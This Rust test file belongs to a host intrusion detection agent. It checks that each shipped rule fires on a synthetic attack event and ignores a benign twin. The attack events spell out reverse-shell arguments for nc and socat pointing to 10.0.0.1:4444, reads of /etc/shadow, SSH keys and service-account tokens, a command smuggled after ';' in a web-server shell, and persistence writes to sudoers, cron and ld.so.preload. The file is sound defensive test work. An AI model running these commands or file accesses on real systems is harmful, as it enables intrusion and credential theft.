//! The rules that come with the agent: each fires on its attack and stays quiet on a benign twin.

use crate::support::{
    O_CREAT, O_RDWR, O_TRUNC, O_WRONLY, connects, contained, exec, matching, open, opens, process, shipped,
};
use hostward_event::event::{Action, Mode};
use hostward_event::process::Process;
use hostward_event::raw::FileType;
use hostward_event::{Event, Text};
use hostward_policy::{Loaded, Protected, Responses, plan};
use std::collections::BTreeSet;

const SHELL: &[&str] = &["/usr/bin/bash", "/usr/sbin/sshd", "/usr/lib/systemd/systemd"];
const PACKAGE: &[&str] = &["/usr/bin/dash", "/usr/bin/dpkg", "/usr/bin/apt-get"];
const WRITE: u64 = O_WRONLY | O_CREAT | O_TRUNC;

fn rules() -> Loaded {
    let loaded = hostward_policy::load(&shipped("etc/rules.d"));
    assert!(
        loaded.problems.is_empty(),
        "{}",
        loaded.problems.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")
    );
    loaded
}

fn with_stdin(mut process: Process, stdin: FileType, tty: u32) -> Process {
    process.stdin = stdin;
    process.tty = tty;
    process
}

fn memfd(mut process: Process) -> Process {
    process.memfd = true;
    process.exe.nlink = 0;
    process
}

fn deleted(mut process: Process) -> Process {
    process.exe.nlink = 0;
    process
}

fn script(mut process: Process, filename: &str, cwd: &str) -> Process {
    process.filename = Text::from(filename);
    process.cwd = Text::from(cwd);
    process
}

fn reads(path: &str, args: &str, ancestors: &[&str], file: &str) -> Event {
    opens(process(path, args), ancestors, open(file, 0))
}

fn writes(path: &str, ancestors: &[&str], file: &str) -> Event {
    opens(process(path, ""), ancestors, open(file, WRITE))
}

fn refused(file: &str, flags: u64) -> Event {
    let mut failed = open(file, flags);
    failed.result = -13;
    failed.path = Text::EMPTY;
    failed.inode = Default::default();
    opens(process("/usr/bin/cat", ""), SHELL, failed)
}

/// Rule, events that it must match, events that no rule may match at all.
fn cases() -> Vec<(&'static str, Vec<Event>, Vec<Event>)> {
    let sh = || process("/usr/bin/sh", "");
    vec![
        (
            "Password hashes read by unexpected program",
            vec![
                reads("/usr/bin/cat", "/etc/shadow", SHELL, "/etc/shadow"),
                reads("/usr/bin/python3.11", "", SHELL, "/etc/gshadow"),
                // A link does not help, nor does a name that looks right.
                opens(process("/home/u/sshd", ""), SHELL, {
                    let mut linked = open("/etc/shadow", O_RDWR);
                    linked.arg = Text::from("/tmp/link");
                    linked
                }),
            ],
            vec![
                reads("/usr/sbin/sshd", "", &[], "/etc/shadow"),
                reads("/usr/bin/sudo", "id", SHELL, "/etc/shadow"),
                reads("/usr/sbin/cron", "", &[], "/etc/shadow"),
                reads(
                    "/usr/bin/cmp",
                    "-s shadow.bak /etc/shadow",
                    &["/usr/bin/dash", "/usr/bin/run-parts", "/usr/sbin/cron"],
                    "/etc/shadow",
                ),
                reads("/usr/bin/perl", "", PACKAGE, "/etc/shadow"),
                reads("/usr/bin/cat", "", SHELL, "/etc/passwd"),
                refused("/etc/shadow", 0),
            ],
        ),
        (
            "Workload secret read by unexpected program",
            vec![
                opens(
                    contained(process("/usr/bin/cat", "")),
                    &[],
                    open("/run/secrets/kubernetes.io/serviceaccount/token", 0),
                ),
                opens(contained(process("/usr/bin/curl", "")), &[], open("/var/run/secrets/db", 0)),
                reads("/opt/x/tool", "", SHELL, "/run/secrets/kubernetes.io/serviceaccount/token"),
            ],
            vec![
                opens(
                    contained(process("/app/server", "")),
                    &[],
                    open("/run/secrets/kubernetes.io/serviceaccount/token", 0),
                ),
                reads("/usr/bin/runc", "", &[], "/run/secrets/x"),
                reads("/usr/bin/cat", "", SHELL, "/run/user/1000/x"),
            ],
        ),
        (
            "SSH private key read by unexpected program",
            vec![
                reads("/usr/bin/tar", "", SHELL, "/home/u/.ssh/id_ed25519"),
                reads("/usr/bin/cat", "", SHELL, "/root/.ssh/id_rsa"),
                reads("/usr/bin/cp", "", SHELL, "/etc/ssh/ssh_host_rsa_key"),
            ],
            vec![
                reads("/usr/bin/ssh", "", SHELL, "/home/u/.ssh/id_ed25519"),
                reads("/usr/bin/cat", "", SHELL, "/home/u/.ssh/id_ed25519.pub"),
                reads("/usr/sbin/sshd", "", &[], "/etc/ssh/ssh_host_rsa_key"),
                reads("/usr/bin/cat", "", SHELL, "/home/u/.ssh/known_hosts"),
            ],
        ),
        (
            "Reverse shell",
            vec![
                exec(
                    with_stdin(process("/usr/bin/bash", "-i"), FileType::Socket, 0),
                    &["/usr/bin/python3.11"],
                ),
                exec(with_stdin(sh(), FileType::Socket, 0), &["/usr/sbin/apache2"]),
                exec(with_stdin(process("/usr/bin/bash", "-i"), FileType::Socket, 34816), SHELL),
                exec(with_stdin(process("/usr/bin/bash", "-i"), FileType::Socket, 0), SHELL),
            ],
            vec![
                exec(with_stdin(process("/usr/bin/bash", "-i"), FileType::CharDevice, 34816), SHELL),
                // ssh host command, and a script that it starts.
                exec(with_stdin(process("/usr/bin/bash", "-c id"), FileType::Socket, 0), &["/usr/sbin/sshd"]),
                exec(with_stdin(process("/usr/bin/dash", "-c /usr/bin/python3"), FileType::Socket, 0), SHELL),
                // A service that logs to the journal.
                exec(
                    {
                        let mut service = with_stdin(sh(), FileType::CharDevice, 0);
                        service.stdout = FileType::Socket;
                        service
                    },
                    &["/usr/lib/systemd/systemd"],
                ),
                exec(
                    with_stdin(process("/usr/bin/cat", ""), FileType::Socket, 0),
                    &["/usr/lib/systemd/systemd"],
                ),
            ],
        ),
        (
            "Network tool told to run a program",
            vec![
                exec(process("/usr/bin/nc.traditional", "10.0.0.1 4444 -e /bin/sh"), SHELL),
                exec(process("/usr/bin/ncat", "--sh-exec id"), SHELL),
                exec(process("/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/sh"), SHELL),
            ],
            vec![
                exec(process("/usr/bin/nc.openbsd", "-z example.org 443"), SHELL),
                exec(process("/usr/bin/socat", "TCP-LISTEN:80 TCP:10.0.0.1:80"), SHELL),
            ],
        ),
        (
            "Execution from a world-writable directory",
            vec![
                exec(process("/tmp/x", ""), SHELL),
                exec(process("/dev/shm/a/b", ""), SHELL),
                exec(script(process("/usr/bin/dash", "/var/tmp/run.sh"), "/var/tmp/run.sh", "/root"), SHELL),
                exec(script(process("/usr/bin/dash", "./run.sh"), "./run.sh", "/tmp"), SHELL),
            ],
            vec![
                exec(process("/usr/bin/ls", "/tmp"), SHELL),
                exec(process("/tmpfoo/x", ""), SHELL),
                exec(process("/tmp/preinst", ""), PACKAGE),
                exec(
                    script(process("/usr/bin/dash", ""), "/tmp/apt-key-gpghome.Ab12/gpg.1.sh", "/"),
                    &["/usr/bin/dash", "/usr/lib/apt/methods/gpgv"],
                ),
                exec(script(process("/usr/bin/dash", "./run.sh"), "./run.sh", "/home/u"), SHELL),
            ],
        ),
        (
            "Execution from memory",
            vec![
                exec(memfd(process("memfd:x", "")), SHELL),
                exec(memfd(process("memfd:runc_cloned:/proc/self/exe", "")), SHELL),
            ],
            vec![
                exec(
                    memfd(process("memfd:runc_cloned:/proc/self/exe", "init")),
                    &["/usr/bin/containerd-shim-runc-v2"],
                ),
                exec(process("/usr/bin/ls", ""), SHELL),
            ],
        ),
        (
            "Execution of a deleted program",
            vec![exec(deleted(process("/usr/local/x", "")), SHELL)],
            vec![
                exec(deleted(process("/usr/bin/runc", "init")), &["/usr/bin/runc"]),
                exec(process("/usr/local/x", ""), SHELL),
            ],
        ),
        (
            "Shell started by a web server",
            vec![
                exec(process("/usr/bin/dash", "-c id"), &["/usr/sbin/apache2"]),
                exec(process("/usr/bin/bash", "-c id"), &["/usr/sbin/php-fpm8.2"]),
                exec(process("/usr/bin/dash", "-c /usr/sbin/sendmail -t -i;id"), &["/usr/sbin/apache2"]),
            ],
            vec![
                exec(process("/usr/bin/dash", "-c /usr/sbin/sendmail -t -i"), &["/usr/sbin/apache2"]),
                exec(process("/usr/sbin/nginx", ""), &["/usr/sbin/nginx"]),
                exec(process("/usr/bin/dash", "/usr/sbin/apache2ctl start"), &["/usr/lib/systemd/systemd"]),
            ],
        ),
        (
            "Miner started",
            vec![
                exec(process("/usr/bin/xmrig", ""), SHELL),
                exec(process("/opt/update", "-o stratum+tcp://pool.example:3333"), SHELL),
            ],
            vec![exec(process("/usr/bin/grep", "xmrig"), SHELL)],
        ),
        (
            "Miner connects to its pool",
            vec![
                connects(process("/usr/bin/xmrig", ""), SHELL, "127.0.0.1:9"),
                connects(process("/tmp/kworker", ""), SHELL, "127.0.0.1:3333"),
                connects(process("/usr/bin/xmrig", ""), SHELL, "[2001:db8::1]:443"),
            ],
            vec![
                connects(process("/usr/bin/curl", ""), SHELL, "203.0.113.9:443"),
                connects(process("/usr/bin/node", ""), SHELL, "127.0.0.1:3333"),
            ],
        ),
        (
            "Connection by a program without a home",
            vec![
                connects(process("/dev/shm/x", ""), SHELL, "203.0.113.9:443"),
                connects(memfd(process("memfd:x", "")), SHELL, "[2001:db8::1]:443"),
            ],
            vec![
                connects(process("/tmp/test", ""), SHELL, "127.0.0.1:8080"),
                connects(process("/tmp/test", ""), SHELL, "[::1]:8080"),
            ],
        ),
        (
            "Write below /etc",
            vec![
                writes("/usr/bin/bash", SHELL, "/etc/motd"),
                writes("/usr/bin/tee", SHELL, "/etc/profile.d/x.sh"),
            ],
            vec![
                writes("/usr/bin/dpkg", &["/usr/bin/apt-get"], "/etc/x.dpkg-new"),
                writes("/usr/bin/dash", PACKAGE, "/etc/default/x"),
                writes("/usr/sbin/useradd", SHELL, "/etc/passwd"),
                writes("/usr/lib/systemd/systemd-hostnamed", &[], "/etc/hostname"),
                opens(contained(process("/usr/bin/sed", "")), &[], open("/etc/nginx/nginx.conf", WRITE)),
                reads("/usr/bin/cat", "", SHELL, "/etc/motd"),
                writes("/usr/bin/bash", SHELL, "/home/u/etc/motd"),
                refused("/etc/motd", WRITE),
            ],
        ),
        (
            "Write below a binary directory",
            vec![
                writes("/usr/bin/cp", SHELL, "/usr/bin/ls"),
                opens(contained(process("/usr/bin/wget", "")), &[], open("/usr/local/bin/x", WRITE)),
            ],
            vec![
                writes("/usr/bin/dpkg", &[], "/usr/bin/ls.dpkg-new"),
                opens(contained(process("/sbin/apk", "add curl")), &[], {
                    let mut written = open("/usr/bin/.apk.1", WRITE);
                    written.created = true;
                    written
                }),
                writes("/usr/bin/cp", SHELL, "/home/u/bin/x"),
                reads("/usr/bin/cp", "", SHELL, "/usr/bin/ls"),
            ],
        ),
        (
            "Scheduled job or service planted",
            vec![
                opens(contained(process("/usr/bin/sh", "")), &[], open("/etc/cron.d/x", WRITE)),
                opens(process("/usr/bin/tee", ""), SHELL, open("/var/spool/cron/crontabs/root", WRITE)),
                writes("/usr/bin/tee", SHELL, "/home/u/.config/systemd/user/x.service"),
            ],
            vec![
                writes("/usr/bin/crontab", SHELL, "/var/spool/cron/crontabs/tmp.x"),
                writes("/usr/bin/dpkg", &[], "/usr/lib/systemd/system/x.service"),
                writes("/usr/lib/systemd/systemd", &[], "/run/systemd/generator/x"),
            ],
        ),
        (
            "Library preload changed",
            vec![opens(contained(process("/usr/bin/sh", "")), &[], open("/etc/ld.so.preload", WRITE))],
            vec![
                reads("/usr/bin/ls", "", SHELL, "/etc/ld.so.preload"),
                writes("/usr/sbin/ldconfig", PACKAGE, "/etc/ld.so.cache~"),
            ],
        ),
        (
            "Login rules changed",
            vec![opens(contained(process("/usr/bin/sh", "")), &[], open("/etc/sudoers.d/x", WRITE))],
            vec![
                writes("/usr/sbin/visudo", SHELL, "/etc/sudoers.tmp"),
                writes("/usr/bin/perl", PACKAGE, "/etc/pam.d/common-auth"),
            ],
        ),
        (
            "Keys for ssh logins changed",
            vec![writes("/usr/bin/tee", SHELL, "/root/.ssh/authorized_keys")],
            vec![
                reads("/usr/sbin/sshd", "", &[], "/root/.ssh/authorized_keys"),
                writes("/usr/bin/ssh", SHELL, "/root/.ssh/known_hosts"),
            ],
        ),
        (
            "Log emptied",
            vec![writes("/usr/bin/dash", SHELL, "/var/log/auth.log")],
            vec![
                opens(process("/usr/sbin/rsyslogd", ""), &[], open("/var/log/auth.log", O_WRONLY)),
                writes("/usr/sbin/logrotate", &[], "/var/log/syslog"),
            ],
        ),
        (
            "Package manager run in a container",
            vec![
                exec(contained(process("/usr/bin/apt-get", "install nmap")), &[]),
                exec(contained(process("/sbin/apk", "add curl")), &[]),
            ],
            vec![
                exec(process("/usr/bin/apt-get", "upgrade"), SHELL),
                exec(contained(process("/usr/bin/dpkg", "--print-architecture")), &[]),
            ],
        ),
        (
            "Interactive root shell in a container",
            vec![exec(
                contained(with_stdin(process("/bin/bash", ""), FileType::CharDevice, 34816)),
                &["/usr/bin/containerd-shim-runc-v2"],
            )],
            vec![
                exec(with_stdin(process("/bin/bash", ""), FileType::CharDevice, 34816), SHELL),
                exec(contained(with_stdin(process("/bin/sh", "/entry.sh"), FileType::Fifo, 0)), &[]),
            ],
        ),
    ]
}

#[test]
fn each_rule_fires_on_its_attack_and_stays_quiet_on_the_benign_twin() {
    let rules = rules().rules;
    let cases = cases();
    for (name, attacks, benign) in &cases {
        for (n, event) in attacks.iter().enumerate() {
            let matched = matching(&rules, event);
            assert!(matched.iter().any(|rule| rule == name), "attack {n} on `{name}` matches {matched:?}");
        }
        for (n, event) in benign.iter().enumerate() {
            let matched = matching(&rules, event);
            assert!(matched.is_empty(), "benign twin {n} of `{name}` matches {matched:?}");
        }
    }
    let tested: BTreeSet<String> = cases.iter().map(|(name, ..)| (*name).to_owned()).collect();
    let all: BTreeSet<String> = rules.iter().map(|rule| rule.info.name.to_string()).collect();
    // The suite `rules` acts out every rule; here are the finer points of some.
    assert!(tested.is_subset(&all), "cases without a rule: {:?}", tested.difference(&all));
}

#[test]
fn each_rule_says_what_a_responder_needs() {
    for rule in &rules().rules {
        let name = rule.info.name.to_string();
        assert!(
            !rule.info.technique_ids.is_empty() && !rule.info.tactics.is_empty(),
            "{name} has no MITRE tags"
        );
        assert!(
            rule.info.description.to_string().contains("False positives:"),
            "{name} has no false positive note"
        );
    }
}

#[test]
fn the_shipped_rules_do_not_ask_for_every_open() {
    let rules = rules().rules;
    let plan = plan(&rules, &Responses::default(), &Protected::default());
    assert!(plan.opens.all.is_empty(), "{:?}", plan.opens);
    let failed =
        hostward_event::plan::OpenClass::READ_FAILED.union(hostward_event::plan::OpenClass::WRITE_FAILED);
    for (name, classes) in &plan.opens.names {
        assert!(classes.intersection(failed).is_empty(), "{name} asks for failed opens");
    }
    println!("{:?}", plan.opens.names);
    // Reads are watched below no directory that every program passes.
    let reads = |name: &str| {
        plan.opens
            .names
            .get(&Text::from(name))
            .is_some_and(|c| !c.intersection(hostward_event::plan::OpenClass::READ).is_empty())
    };
    for crowded in ["etc", "usr", "lib", "home", "var", "tmp", "run", "bin"] {
        assert!(!reads(crowded), "reads below {crowded} are watched");
    }
    assert!(reads("shadow") && reads("secrets"));
}

#[test]
fn the_shipped_responses_do_no_harm() {
    let rules = rules().rules;
    let (responses, problems) = Responses::load(&shipped("etc/responses.d"), &rules);
    assert_eq!(problems, []);
    assert!(!responses.is_empty());
    for response in &responses {
        assert!(response.mode == Mode::Monitor || response.action() == Action::Alert, "{}", response.name);
    }
    let plan = plan(&rules, &responses, &Protected::default());
    assert!(plan.kill_paths.is_empty() && plan.kill_comms.is_empty());
}
